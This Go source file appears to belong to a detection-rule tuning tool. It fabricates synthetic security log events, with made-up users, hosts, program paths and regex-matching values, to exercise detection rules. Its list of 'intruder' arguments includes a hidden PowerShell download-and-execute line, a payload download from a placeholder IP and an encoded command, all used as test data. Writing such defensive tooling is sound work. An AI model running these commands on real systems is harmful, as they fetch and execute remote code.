package mine

import (
	"fmt"
	"math/rand"
	"net/netip"
	"regexp/syntax"
	"strings"

	"github.com/sigtune/sigtune/rules"
	"github.com/sigtune/sigtune/schema/taxonomy"
	"github.com/sigtune/sigtune/tuning/scenario"
)

// The values of made-up events: texts that meet what a rule and a filter demand, filled up with what such fields hold.

// Names that are ours: nobody of that name is meant.
var (
	madePeople  = strings.Fields("abirch tcole mfinch rsand lmoor ihart jvale kpryce operator7 svc_batch")
	madeHosts   = strings.Fields("ACC-PC11 ACC-PC27 LAP-301 LAP-377 SRV-DB4 SRV-WEB2 KIOSK-5 DEV-19")
	madeMakers  = []string{"Brightwell", "Corvane", "Deltune", "Eastmere", "Fernhill Systems", "Grantham"}
	madeWords   = strings.Fields("amber basil cedar dune egret flint garnet hazel indigo juniper kelp lotus marble nectar ochre pebble")
	everyday    = []string{`C:\Windows\explorer.exe`, `C:\Windows\System32\svchost.exe`, `C:\Windows\System32\msiexec.exe`, `C:\Windows\System32\services.exe`, `C:\Windows\System32\cmd.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `C:\Windows\System32\taskhostw.exe`, `C:\Windows\System32\wbem\WmiPrvSE.exe`}
	intruders   = []string{`C:\Users\%s\Downloads\%s.exe`, `C:\Users\%s\AppData\Local\Temp\%s.exe`, `C:\Users\Public\%[2]s.exe`, `C:\ProgramData\%[2]s.exe`, `C:\Intel\%[2]s.exe`}
	unixMade    = []string{"/usr/sbin/cron", "/usr/lib/systemd/systemd", "/usr/bin/bash", "/usr/bin/python3"}
	unixFreely  = []string{"/tmp/%s", "/dev/shm/%s", "/home/%[2]s/%[1]s", "/bin/sh"}
	intrudeArgs = []string{"-enc SQBFAFgAKABOAGUAdwA=", "/c whoami /all > C:\\Users\\Public\\o.txt", "-w hidden -c iex(iwr http://203.0.113.9/a)", "http://198.51.100.7/p.bin C:\\ProgramData\\p.bin", "--install", ""}
)

// scene is what one event takes from its surroundings.
type scene struct {
	user, host, maker, word, drive string
	hostile                        bool // somebody who is not to be missed does it
	loose                          bool // programs vary from event to event
}

type fabric struct {
	*rand.Rand
	logs   *taxonomy.Logsource
	unix   bool
	habit  scene // of the false positives of a case
	native bool  // they come from programs of the system
}

func (f *fabric) pick(list []string) string { return list[f.Intn(len(list))] }

func (f *fabric) scene(hostile bool) scene {
	return scene{user: f.pick(madePeople), host: f.pick(madeHosts), maker: f.pick(madeMakers), word: f.pick(madeWords), drive: "C:", hostile: hostile}
}

// role is what a field is, as the taxonomy has it.
func (f *fabric) role(field string) taxonomy.Role {
	if f.logs == nil {
		return taxonomy.NoRole
	}
	known, _ := f.logs.Field(field)
	return known.Role
}

// program is a whole path of a program, for a field of which nothing is demanded.
func (f *fabric) program(s scene) string {
	switch {
	case f.unix && s.hostile:
		return fmt.Sprintf(f.pick(unixFreely), s.word, s.user)
	case f.unix && f.native:
		return f.pick(unixMade)
	case f.unix:
		return "/opt/" + strings.ToLower(s.maker[:6]) + "/bin/" + s.word
	case s.hostile && f.Intn(2) == 0, s.loose && f.Intn(2) == 0:
		return f.pick(everyday)
	case s.hostile:
		return fmt.Sprintf(f.pick(intruders), s.user, s.word)
	case f.native && !s.loose:
		return everyday[len(s.word+s.maker)%len(everyday)]
	}
	return s.drive + `\Program Files\` + s.maker + `\` + s.word + ".exe"
}

// argument is an argument of which nothing is demanded.
func (f *fabric) argument(s scene) string {
	switch {
	case s.hostile:
		return f.pick(intrudeArgs)
	case f.Intn(3) == 0:
		return ""
	}
	return fmt.Sprintf(f.pick([]string{"--%s", "/%s", "%s.cfg", "%s"}), f.pick(madeWords))
}

// directory is where a file of a given name lies.
func (f *fabric) directory(s scene, name string, role taxonomy.Role) string {
	name = strings.ToLower(name)
	switch {
	case f.unix && s.hostile && f.Intn(2) == 0:
		return "/tmp/"
	case f.unix:
		return "/usr/bin/"
	case role == taxonomy.RoleRegistryKey && f.Intn(3) == 0:
		return `HKU\S-1-5-21-1004336348-1177238915-682003330-1103\Software\`
	case role == taxonomy.RoleRegistryKey:
		return `HKLM\SOFTWARE\`
	case strings.HasPrefix(name, "powershell"):
		return `C:\Windows\System32\WindowsPowerShell\v1.0\`
	case name == "explorer.exe":
		return `C:\Windows\`
	case scenario.WindowsProgram(strings.TrimSuffix(name, ".exe")) || strings.HasSuffix(name, ".dll") && role == taxonomy.RoleLoadedImage:
		return `C:\Windows\System32\`
	case s.hostile && f.Intn(2) == 0:
		path := fmt.Sprintf(f.pick(intruders), s.user, s.word)
		return path[:strings.LastIndex(path, `\`)+1]
	case role == taxonomy.RoleTargetFile:
		return s.drive + `\Users\` + s.user + `\AppData\Local\`
	}
	return s.drive + `\Program Files\` + s.maker + `\`
}

// literal fills the wildcards inside a pattern.
func (f *fabric) literal(p rules.Pattern) string {
	var b strings.Builder
	for _, t := range p {
		switch t.Kind {
		case rules.AnyRun:
			b.WriteString(f.pick(madeWords))
		case rules.AnyOne:
			b.WriteByte(byte('a' + f.Intn(26)))
		default:
			b.WriteString(t.Text)
		}
	}
	return b.String()
}

// pieces of texts: what a value begins with, holds and ends in.
type pieces struct {
	exact, head, tail string
	middle            []string
}

func (f *fabric) pieces(tests []*rules.Test) (p pieces, ok bool) {
	for _, t := range tests {
		if t.Kind != rules.TextTest || len(t.Patterns) == 0 {
			return p, false
		}
		pattern := t.Patterns[f.Intn(len(t.Patterns))]
		open, openEnd := pattern.StartsOpen(), pattern.EndsOpen()
		if open {
			pattern = pattern[1:]
		}
		if openEnd && len(pattern) > 0 {
			pattern = pattern[:len(pattern)-1]
		}
		text := f.literal(pattern)
		switch {
		case !open && !openEnd:
			p.exact = text
			if text == "" {
				return p, false
			}
		case !open && len(text) > len(p.head):
			p.head = text
		case !openEnd && open && len(text) > len(p.tail):
			p.tail = text
		case open && openEnd:
			p.middle = append(p.middle, text)
		}
	}
	return p, true
}

func holdsFold(text, part string) bool {
	return strings.Contains(strings.ToLower(text), strings.ToLower(part))
}

// path puts pieces together as a path.
func (f *fabric) path(p pieces, s scene, role taxonomy.Role) string {
	separator := `\`
	if f.unix {
		separator = "/"
	}
	middle := ""
	for _, m := range p.middle {
		if !holdsFold(p.head, m) && !holdsFold(p.tail, m) && !holdsFold(middle, m) {
			middle += m
		}
	}
	end := p.tail
	if end == "" || !strings.ContainsAny(end, `\/`) && !strings.Contains(end, ".") {
		name := s.word
		if f.Intn(2) == 0 && role != taxonomy.RoleRegistryKey {
			name += fmt.Sprint(f.Intn(90))
		}
		if end == "" && role != taxonomy.RoleRegistryKey && !f.unix {
			name += map[bool]string{true: ".dll", false: ".exe"}[role == taxonomy.RoleLoadedImage]
		}
		if last := middle[strings.LastIndexAny(middle, `\/`)+1:]; end == "" && strings.Contains(last, ".") && role != taxonomy.RoleRegistryKey {
			name = "" // the middle ends in a file name
		} else if name != "" && !strings.HasSuffix(p.head+middle, separator) {
			name = separator + name
		}
		end = name + end
	} else if strings.HasPrefix(end, ".") {
		end = separator + s.word + end
	}
	head := p.head
	if head == "" {
		head = f.directory(s, end[strings.LastIndexAny(end, `\/`)+1:], role)
		switch begin := middle + end; {
		case strings.HasPrefix(begin, "C:"), strings.HasPrefix(begin, "HK"), strings.HasPrefix(begin, `\\`):
			head = ""
		case strings.HasPrefix(begin, ":"):
			head = "C"
		}
	}
	join := func(a, b string) string {
		if a != "" && b != "" && strings.HasSuffix(a, separator) && strings.HasPrefix(b, separator) {
			return a + b[1:]
		}
		return a + b
	}
	whole := join(join(head, middle), end)
	if p.tail != "" && p.head != "" && holdsFold(p.head, strings.TrimPrefix(p.tail, separator)) && strings.HasSuffix(strings.ToLower(p.head), strings.ToLower(p.tail)) {
		whole = p.head
	}
	return whole
}

// line puts pieces together as a text with blanks.
func (f *fabric) line(p pieces, s scene, begin string) string {
	out := p.head
	if out == "" {
		out = begin
	}
	for _, m := range p.middle {
		if holdsFold(out, m) || holdsFold(p.tail, m) {
			continue
		}
		if out != "" && !strings.HasPrefix(m, " ") && !strings.HasSuffix(out, " ") {
			out += " "
		}
		if strings.HasPrefix(m, `:\`) {
			out += s.drive[:1]
		}
		out += m
	}
	extra := f.argument(s)
	if extra != "" && out != "" {
		out = strings.TrimSuffix(out, " ") + " " + extra
		for _, m := range p.middle { // a blank at the end belonged to it
			if !holdsFold(out, m) {
				out += m
			}
		}
	}
	if p.tail != "" && !strings.HasSuffix(strings.ToLower(out), strings.ToLower(p.tail)) {
		if out != "" && !strings.HasPrefix(p.tail, " ") {
			out += " "
		}
		out += p.tail
	}
	return out
}

// value is a value of a field that meets all tests, as far as that is easily done: the caller looks whether it does. absent is a field that
// has to be missing.
func (f *fabric) value(field string, tests []*rules.Test, s scene, e map[string]any) (value any, absent bool) {
	role := f.role(field)
	for _, t := range tests {
		switch t.Kind {
		case rules.NullTest:
			return nil, true
		case rules.ExistsTest:
			if !t.Bool {
				return nil, true
			}
			return s.word, false
		case rules.NumberTest:
			return t.Number.Text, false
		case rules.BoolTest:
			return fmt.Sprint(t.Bool), false
		case rules.CompareTest:
			n := t.Number.Int
			switch t.Compare {
			case rules.Less, rules.LessOrEqual:
				n -= int64(1 + f.Intn(3))
			default:
				n += int64(1 + f.Intn(3))
			}
			return fmt.Sprint(n), false
		case rules.CIDRTest:
			return f.address(t.Network), false
		case rules.RegexTest:
			if parsed, err := syntax.Parse(t.Regex.Source, syntax.Perl); err == nil {
				return f.regex(parsed, 0), false
			}
		}
	}
	p, ok := f.pieces(tests)
	switch {
	case !ok:
		return nil, false
	case p.exact != "":
		return p.exact, false
	}
	switch kindOfRole(role, field) {
	case pathKind:
		return f.path(p, s, role), false
	case textKind:
		begin := ""
		switch role {
		case taxonomy.RoleCommandLine:
			begin = quoted(e["Image"])
		case taxonomy.RoleParentCommandLine:
			begin = quoted(e["ParentImage"])
		}
		return f.line(p, s, begin), false
	}
	out := p.head
	for _, m := range p.middle {
		if !holdsFold(out, m) && !holdsFold(p.tail, m) {
			out += m
		}
	}
	if p.head != "" && p.tail == "" || p.head == "" && p.tail != "" && len(p.middle) == 0 {
		if f.Intn(2) == 0 && p.tail == "" {
			out += s.word
		} else if p.tail != "" {
			out = s.word + out
		}
	}
	return out + p.tail, false
}

func kindOfRole(role taxonomy.Role, field string) kind {
	if p, ok := priors[role]; ok {
		return p.kind
	}
	return kindOf(taxonomy.Field{}.Type, field)
}

func quoted(image any) string {
	if text, ok := image.(string); ok && text != "" {
		return `"` + text + `"`
	}
	return ""
}

func (f *fabric) address(n netip.Prefix) string {
	bytes := n.Addr().AsSlice()
	for bit := n.Bits(); bit < n.Addr().BitLen(); bit++ {
		if f.Intn(2) == 0 {
			bytes[bit/8] |= 1 << (7 - bit%8)
		}
	}
	a, _ := netip.AddrFromSlice(bytes)
	return a.String()
}

// regex is a text that a regular expression matches.
func (f *fabric) regex(r *syntax.Regexp, depth int) string {
	var b strings.Builder
	if depth > 20 {
		return ""
	}
	again := func(n int) {
		for range n {
			for _, s := range r.Sub {
				b.WriteString(f.regex(s, depth+1))
			}
		}
	}
	switch r.Op {
	case syntax.OpLiteral:
		b.WriteString(string(r.Rune))
	case syntax.OpCharClass:
		k := 2 * f.Intn(len(r.Rune)/2)
		lo, hi := r.Rune[k], min(r.Rune[k+1], max(r.Rune[k], 0x7e))
		b.WriteRune(lo + rune(f.Intn(int(hi-lo)+1)))
	case syntax.OpAnyChar, syntax.OpAnyCharNotNL:
		b.WriteByte(byte('a' + f.Intn(26)))
	case syntax.OpAlternate:
		b.WriteString(f.regex(r.Sub[f.Intn(len(r.Sub))], depth+1))
	case syntax.OpConcat, syntax.OpCapture:
		again(1)
	case syntax.OpStar:
		again(f.Intn(4))
	case syntax.OpPlus:
		again(1 + f.Intn(4))
	case syntax.OpQuest:
		again(f.Intn(2))
	case syntax.OpRepeat:
		again(r.Min + f.Intn(max(1, min(r.Max, r.Min+4)-r.Min+1)))
	}
	return b.String()
}
